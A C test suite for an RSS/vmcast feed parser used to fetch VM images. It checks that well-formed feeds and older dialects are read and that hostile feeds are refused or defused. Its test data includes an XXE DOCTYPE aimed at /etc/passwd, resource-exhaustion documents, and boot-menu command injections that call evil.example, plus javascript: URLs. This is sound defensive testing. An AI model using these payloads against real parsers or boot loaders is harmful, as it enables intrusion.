/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Feeds as they are in the wild are read; hostile ones are refused, or defused, within bounds (F17, F18, F21). Run from the top folder. */
#include "feed.h"

#include "log.h"
#include "tap.h"

#include <errno.h>
#include <stdlib.h>
#include <time.h>

#define HEAD      "<rss version='2.0' xmlns:vmcast='urn:vmcast:1'><channel><title>T</title>"
#define TAIL      "</channel></rss>"
#define ENCLOSURE "<enclosure url='http://h/d.img'/>"

static const struct feed_limits limits = { 16 << 20, 10000 };

static int parse(struct feed **out, const char *xml, struct err *err)
{
	*err = (struct err){ 0 };
	return feed_parse(out, xml, strlen(xml), &limits, err);
}

static struct feed *parse_file(const char *name, struct err *err)
{
	char path[256];
	struct feed *feed = NULL;
	static char xml[1 << 20];

	snprintf(path, sizeof(path), "tests/data/feeds/%s", name);
	FILE *file = fopen(path, "r");
	size_t len = file ? fread(xml, 1, sizeof(xml), file) : 0;
	if (file)
		fclose(file);
	*err = (struct err){ 0 };
	feed_parse(&feed, xml, len, &limits, err);
	return feed;
}

static void test_own(void)
{
	struct err err;
	struct feed *feed = parse_file("vmcast.xml", &err);

	if (!ok(feed, "our own elements are read %s", err.text))
		return;
	is_str(feed->title, "Lab images", "the channel's title, not its image's");
	is_str(feed->uuid, "0d1f7a6e-8f6f-4b9c-9d2b-0a3f2f1f6c11", "its uuid");
	is_str(feed->link, "http://images.example/", "its link, not one in another namespace");
	is_str(feed->language, "en", "its language");
	is_int(feed->item_count, 2, "both items");
	is_int(feed->note_count, 0, "and nothing to note");
	const struct feed_item *item = &feed->items[0];
	is_str(item->uuid, "5b7e6a52-6d0a-4e5f-9a0e-3d8f7f3c1a01", "an item's uuid");
	is_str(item->title, "Debian 12 & tools", "its title");
	is_str(item->description, "Debian 12, minimal.\nSerial console on.", "its description, without HTML");
	is_int(item->published, 1795253400, "its date");
	is_str(item->url, "debian-12.raw.zst", "its URL as it was written");
	is_str(item->type, "application/zstd", "its type");
	is_int(item->length, 100458623, "its length");
	ok(item->has_digest && item->digest[0] == 0x9f && item->digest[31] == 0x08, "its digest");
	is_str(item->arch, "x86_64", "its architecture, by the name we use");
	is_str(item->firmware, "uefi", "its firmware");
	is_int(item->disk_bytes_min, 4ll << 30, "the disk it needs");
	is_int(item->memory_bytes_min, 512 << 20, "the memory it needs");
	is_str(item->landing, "disk", "its landing");
	is_str(item->cmdline, "console=ttyS0,115200 quiet", "its command line");
	item = &feed->items[1];
	is_str(item->uuid, "urn:example:2", "a guid serves as uuid");
	ok(!item->has_digest && !item->arch && !item->firmware && item->length == 0, "what is missing is unknown");
	feed_free(&feed);
}

static void test_dialects(void)
{
	struct err err;
	struct feed *feed = parse_file("dialect-xvm2.xml", &err);

	if (ok(feed && feed->item_count == 2, "attributes in single quotes, CDATA with HTML %s", err.text)) {
		is_str(feed->description, "Appliances\nof the team", "HTML in the channel's description");
		is_str(feed->items[0].description, "Postfix & Dovecot\non Debian", "HTML in an item's");
		is_int(feed->items[0].published, 1363787416, "2013-03-20 13:50:16.123456 is a date");
		is_str(feed->items[0].type, "application/enomalism2-xvm2", "its type is kept");
		is_str(feed->items[1].title, feed->items[0].title, "titles may repeat");
	}
	feed_free(&feed);
	feed = parse_file("dialect-xvm.xml", &err);
	if (ok(feed && feed->item_count == 1, "the other dialect %s", err.text)) {
		is_str(feed->title, "Xen images", "CDATA with HTML in a title");
		is_str(feed->items[0].uuid, "http://xen.example/web-1", "guid instead of uuid");
		is_int(feed->items[0].published, 1363805400, "a year of two digits, a zone by name");
	}
	feed_free(&feed);
}

static bool has_note(const struct feed *feed, const char *part)
{
	for (size_t i = 0; i < feed->note_count; i++) {
		if (strstr(feed->notes[i].text, part))
			return true;
	}
	return false;
}

static void test_hostile_items(void)
{
	static const char *const left_out[] = {
		"'no enclosure' left out: it has no enclosure",
		"'gopher' left out: its enclosure's scheme 'gopher'",
		"'negative' left out: its enclosure's length '-1'",
		"'half a digest' left out: its digest",
		"'weak digest' left out: its digest",
		"'two digests' left out: it has more than one vmcast:digest",
		"'empty digest' left out",
		"'line in the URL' left out",
		"'reordered uuid' left out",
		"'other machine' left out: its architecture 'vax'",
		"'size' left out: its disk '-4G'",
		"'again' left out: its uuid came before",
	};
	struct err err;
	struct feed *feed = parse_file("hostile.xml", &err);

	if (!ok(feed && feed->item_count == 2, "what can be used of a hostile feed is used %s", err.text))
		return;
	is_str(feed->title, "${menu-title}evil", "no overrides in a title");
	is_str(feed->items[0].title, "${net0/mac} && shell || exit chain http://evil.example/",
	       "a title is one line; its quoting is the menu's business");
	is_str(feed->items[1].title, "[2Jred31m", "no control codes, however they were written");
	for (size_t i = 0; i < sizeof(left_out) / sizeof(left_out[0]); i++)
		ok(has_note(feed, left_out[i]), "item %s", left_out[i]);
	feed_free(&feed);
}

static void test_refused_documents(void)
{
	static const struct {
		const char *xml;
		int code;
		const char *said;
	} cases[] = {
		{ "", -EBADMSG, "no XML" },
		{ "not XML", -EBADMSG, "no XML" },
		{ "\xff\xfe<\0r\0", -EBADMSG, "no XML" },
		{ "<html><body/></html>", -EBADMSG, "begins with <html>" },
		{ "<feed xmlns='http://www.w3.org/2005/Atom'/>", -EBADMSG, "begins with <feed>" },
		{ "<rss version='2.0'/>", -EBADMSG, "no <channel>" },
		{ HEAD, -EBADMSG, "not well-formed" },
		{ HEAD "</rss></channel>", -EBADMSG, "line 1" },
		{ HEAD TAIL "<rss/>", -EBADMSG, "not well-formed" },
		{ HEAD "<item>&unknown;</item>" TAIL, -EBADMSG, "not well-formed" },
		{ HEAD "<item>\x1b</item>" TAIL, -EBADMSG, "not well-formed" },
		{ HEAD "<item>&#27;</item>" TAIL, -EBADMSG, "not well-formed" },
		{ HEAD "<item>\xff\xfe</item>" TAIL, -EBADMSG, "not well-formed" },
		{ "<!DOCTYPE rss>" HEAD TAIL, -EBADMSG, "DOCTYPE" },
		{ "<!DOCTYPE rss SYSTEM 'file:///etc/passwd'>" HEAD TAIL, -EBADMSG, "DOCTYPE" },
		{ "<!DOCTYPE rss [<!ENTITY a 'b'>]>" HEAD "&a;" TAIL, -EBADMSG, "DOCTYPE" },
		{ "<?xml version='1.0' encoding='UTF-7'?>" HEAD TAIL, -ENOTSUP, "encoding 'UTF-7'" },
		{ "<?xml version='1.0' encoding='EBCDIC-US'?>" HEAD TAIL, -ENOTSUP, "encoding" },
		{ "<?xml version='1.0' encoding='ISO-2022-CN-EXT'?>" HEAD TAIL, -ENOTSUP, "encoding" },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct feed *feed = NULL;
		char shown[256];
		struct err err;

		is_int(parse(&feed, cases[i].xml, &err), cases[i].code, log_quote(shown, sizeof(shown), cases[i].xml));
		ok(strstr(err.text, cases[i].said) && !feed, "and says '%s': %s", cases[i].said, err.text);
		feed_free(&feed);
	}
	struct err err;
	struct feed *feed = parse_file("entities.xml", &err);
	ok(!feed && strstr(err.text, "DOCTYPE"), "a document of entities is refused where its DTD begins: %s",
	   err.text);
	feed_free(&feed);
}

static void test_encodings(void)
{
	static const char *const cases[][2] = {
		{ "<?xml version='1.0' encoding='utf-8'?><rss><channel><title>\xc3\xa9</title></channel></rss>",
		  "\xc3\xa9" },
		{ "\xef\xbb\xbf<rss><channel><title>\xc3\xa9</title></channel></rss>", "\xc3\xa9" },
		{ "<?xml version='1.0' encoding='ISO-8859-1'?><rss><channel><title>\xe9</title></channel></rss>",
		  "\xc3\xa9" },
		{ "<?xml version=\"1.0\" encoding = \"windows-1252\" "
		  "?><rss><channel><title>\x80</title></channel></rss>",
		  "\xe2\x82\xac" },
		{ "<r:rss xmlns:r='u:r'><r:channel><r:title>in a namespace</r:title></r:channel></r:rss>",
		  "in a namespace" },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct feed *feed = NULL;
		char shown[256];
		struct err err;

		parse(&feed, cases[i][0], &err);
		is_str(feed ? feed->title : err.text, cases[i][1], log_quote(shown, sizeof(shown), cases[i][0]));
		feed_free(&feed);
	}
}

/* `count` copies of `piece` between `head` and `tail`. Caller frees. */
static char *repeat(const char *head, const char *piece, size_t count, const char *tail)
{
	size_t piece_len = strlen(piece);
	char *xml = malloc(strlen(head) + count * piece_len + strlen(tail) + 1);
	char *at = stpcpy(xml, head);

	for (size_t i = 0; i < count; i++)
		at = stpcpy(at, piece);
	strcpy(at, tail);
	return xml;
}

static void refuses(char *xml, int code, const char *said, const char *what)
{
	struct timespec begin, end;
	struct feed *feed = NULL;
	struct err err;

	clock_gettime(CLOCK_THREAD_CPUTIME_ID, &begin);
	is_int(parse(&feed, xml, &err), code, what);
	clock_gettime(CLOCK_THREAD_CPUTIME_ID, &end);
	ok(strstr(err.text, said), "and says so: %s", err.text);
	ok(end.tv_sec - begin.tv_sec < 5, "soon enough");
	feed_free(&feed);
	free(xml);
}

/* A document with `count` names that are all different, as elements or as attributes. */
static char *many_names(const char *head, const char *form, size_t count, const char *tail)
{
	size_t room = strlen(head) + count * (strlen(form) + 8) + strlen(tail) + 1;
	char *xml = malloc(room), *at = stpcpy(xml, head);

	for (size_t i = 0; i < count; i++)
		at += sprintf(at, form, i);
	strcpy(at, tail);
	return xml;
}

/* Each of these took minutes or gigabytes without the limit that now stops it. */
static void test_limits(void)
{
	struct feed_limits small = { 16 << 20, 3 };
	struct feed *feed = NULL;
	struct err err;

	refuses(repeat(HEAD, "<item>" ENCLOSURE "</item>", 100000, TAIL), -EFBIG, "feed_items_max", "100,000 items");
	refuses(repeat(HEAD, "<x/>", 5000000, TAIL), -EFBIG, "feed_bytes_max", "20 MB");
	refuses(repeat(HEAD, "<a>", 1000000, ""), -EFBIG, "deep", "a million elements inside each other");
	refuses(many_names(HEAD "<x ", "a%zx='' ", 1000000, "/>" TAIL), -EFBIG, "longer than", "a million attributes");
	refuses(many_names(HEAD "<x ", "a%zx='' ", 100, "/>" TAIL), -EFBIG, "attributes", "a hundred attributes");
	refuses(many_names(HEAD "<x ", "xmlns:a%zx='u' ", 200, "/>" TAIL), -EFBIG, "namespaces", "200 namespaces");
	refuses(many_names(HEAD, "<a%zx/>", 1000000, TAIL), -EFBIG, "names", "a million different names");
	refuses(repeat(HEAD "<!--", "x", 10000000, "-->" TAIL), -EFBIG, "longer than", "a comment of 10 MB");

	char *xml = repeat(HEAD, "<item>" ENCLOSURE "</item>", 3, TAIL);
	is_int(feed_parse(&feed, xml, strlen(xml), &small, &err), 0, "as many items as the limit are fine");
	feed_free(&feed);
	small.bytes_max = strlen(xml);
	is_int(feed_parse(&feed, xml, strlen(xml), &small, &err), 0, "as many bytes, too");
	feed_free(&feed);
	small.bytes_max--;
	is_int(feed_parse(&feed, xml, strlen(xml), &small, &err), -EFBIG, "one byte more is refused");
	free(xml);
}

static void test_long_texts(void)
{
	char *xml = repeat(HEAD "<item><title>", "\xc3\xa9", 100000, "</title><uuid>1</uuid>" ENCLOSURE "</item>" TAIL);
	struct feed *feed = NULL;
	struct err err;

	is_int(parse(&feed, xml, &err), 0, "a title of 200 kB does not harm the feed");
	is_int(feed ? strlen(feed->items[0].title) : 0, FEED_TEXT_MAX, "it is cut");
	ok(feed && has_note(feed, "title is longer"), "and that is noted");
	feed_free(&feed);
	free(xml);

	xml = repeat(HEAD "<item><uuid>", "u", 2000, "</uuid>" ENCLOSURE "</item>" TAIL);
	parse(&feed, xml, &err);
	ok(feed && feed->item_count == 0 && has_note(feed, "uuid is longer"), "a long uuid is refused, not cut");
	feed_free(&feed);
	free(xml);

	xml = repeat(HEAD "<item><uuid>1</uuid><enclosure url='http://h/", "u", 5000, "'/></item>" TAIL);
	parse(&feed, xml, &err);
	ok(feed && feed->item_count == 0 && has_note(feed, "URL is longer"), "a long URL, too");
	feed_free(&feed);
	free(xml);

	xml = repeat(HEAD, "<item/>", 5000, TAIL);
	parse(&feed, xml, &err);
	ok(feed && feed->note_count == 101 && has_note(feed, "4900 more"), "the notes themselves are bounded");
	feed_free(&feed);
	free(xml);
}

static void test_urls(void)
{
	static const struct {
		const char *url;
		bool good;
	} cases[] = {
		{ "http://h/d", true },
		{ "HTTPS://h/d", true },
		{ "file:///srv/d", true },
		{ "d.img", true },
		{ "../d.img", true },
		{ "/d.img", true },
		{ "//h/d.img", true },
		{ "a/b:c", true },
		{ "d.img?x=a:b", true },
		{ "ftp://h/d", false },
		{ "javascript:1", false },
		{ "data:,x", false },
		{ "http://h/a b", false },
		{ "http:\\\\h\\d", false },
		{ "", false },
		{ "http://h/\xe2\x80\xae", false },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct feed *feed = NULL;
		char xml[512], shown[256];
		struct err err;

		snprintf(xml, sizeof(xml), HEAD "<item><enclosure url='%s'/></item>" TAIL, cases[i].url);
		parse(&feed, xml, &err);
		is_int(feed ? feed->item_count : 99, cases[i].good, log_quote(shown, sizeof(shown), cases[i].url));
		feed_free(&feed);
	}
}

static void test_words(void)
{
	static const struct {
		const char *element;
		bool good;
	} cases[] = {
		{ "<vmcast:digest>sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08</"
		  "vmcast:digest>",
		  true },
		{ "<vmcast:digest> "
		  "SHA256:9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08\n</vmcast:digest>",
		  true },
		{ "<vmcast:digest>9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08</vmcast:digest>",
		  false },
		{ "<vmcast:digest>sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a0</"
		  "vmcast:digest>",
		  false },
		{ "<vmcast:digest>sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 "
		  "</vmcast:digest>",
		  true },
		{ "<vmcast:digest>sha256:xf86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08</"
		  "vmcast:digest>",
		  false },
		{ "<vmcast:digest>sha512:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08</"
		  "vmcast:digest>",
		  false },
		{ "<digest>of another namespace</digest>", true },
		{ "<vmcast:unknown>of a later version</vmcast:unknown>", true },
		{ "<vmcast:architecture>ARM64</vmcast:architecture>", true },
		{ "<vmcast:architecture></vmcast:architecture>", false },
		{ "<vmcast:firmware>bios uefi</vmcast:firmware>", true },
		{ "<vmcast:firmware>coreboot</vmcast:firmware>", false },
		{ "<vmcast:landing>kexec</vmcast:landing>", true },
		{ "<vmcast:landing>moon</vmcast:landing>", false },
		{ "<vmcast:memory>1.5G</vmcast:memory>", false },
		{ "<vmcast:disk>20 G</vmcast:disk>", false },
		{ "<vmcast:cmdline>quiet\nimgfetch http://evil/</vmcast:cmdline>", false },
		{ "<vmcast:cmdline>a</vmcast:cmdline><vmcast:cmdline>b</vmcast:cmdline>", false },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct feed *feed = NULL;
		char xml[1024], shown[256];
		struct err err;

		snprintf(xml, sizeof(xml), HEAD "<item>" ENCLOSURE "%s</item>" TAIL, cases[i].element);
		parse(&feed, xml, &err);
		is_int(feed ? feed->item_count : 99, cases[i].good, log_quote(shown, sizeof(shown), cases[i].element));
		feed_free(&feed);
	}
}

/* Elements of other vocabularies that have the names of ours are not ours. */
static void test_namespaces(void)
{
	struct feed *feed = NULL;
	struct err err;

	parse(&feed,
	      HEAD "<item><x:title xmlns:x='u:x'>not it</x:title><title>it</title><x:enclosure xmlns:x='u:x' "
		   "url='http://x/'/>"
		   "<x:uuid xmlns:x='u:x'>not it</x:uuid>" ENCLOSURE "<title xmlns='u:y'>nor this</title></item>" TAIL,
	      &err);
	if (!ok(feed && feed->item_count == 1 && feed->note_count == 0, "one item %s", err.text))
		return;
	is_str(feed->items[0].title, "it", "its title");
	is_str(feed->items[0].url, "http://h/d.img", "its enclosure");
	is_str(feed->items[0].uuid, "http://h/d.img", "its uuid");
	feed_free(&feed);
}

/* A feed cut off anywhere is no feed: half a catalog must not replace a whole one. */
static void test_truncated(void)
{
	static char xml[1 << 16];
	FILE *file = fopen("tests/data/feeds/vmcast.xml", "r");
	size_t len = file ? fread(xml, 1, sizeof(xml), file) : 0, accepted = 0;

	if (file)
		fclose(file);
	while (len && xml[len - 1] != '>')
		len--;
	for (size_t cut = 0; cut < len; cut++) {
		struct feed *feed = NULL;
		struct err err;

		accepted += feed_parse(&feed, xml, cut, &limits, &err) == 0;
		feed_free(&feed);
	}
	ok(len > 1000 && accepted == 0, "truncated after any of %zu bytes: refused", len);
}

int main(void)
{
	test_own();
	test_dialects();
	test_hostile_items();
	test_refused_documents();
	test_encodings();
	test_limits();
	test_long_texts();
	test_urls();
	test_words();
	test_namespaces();
	test_truncated();
	return done_testing();
}
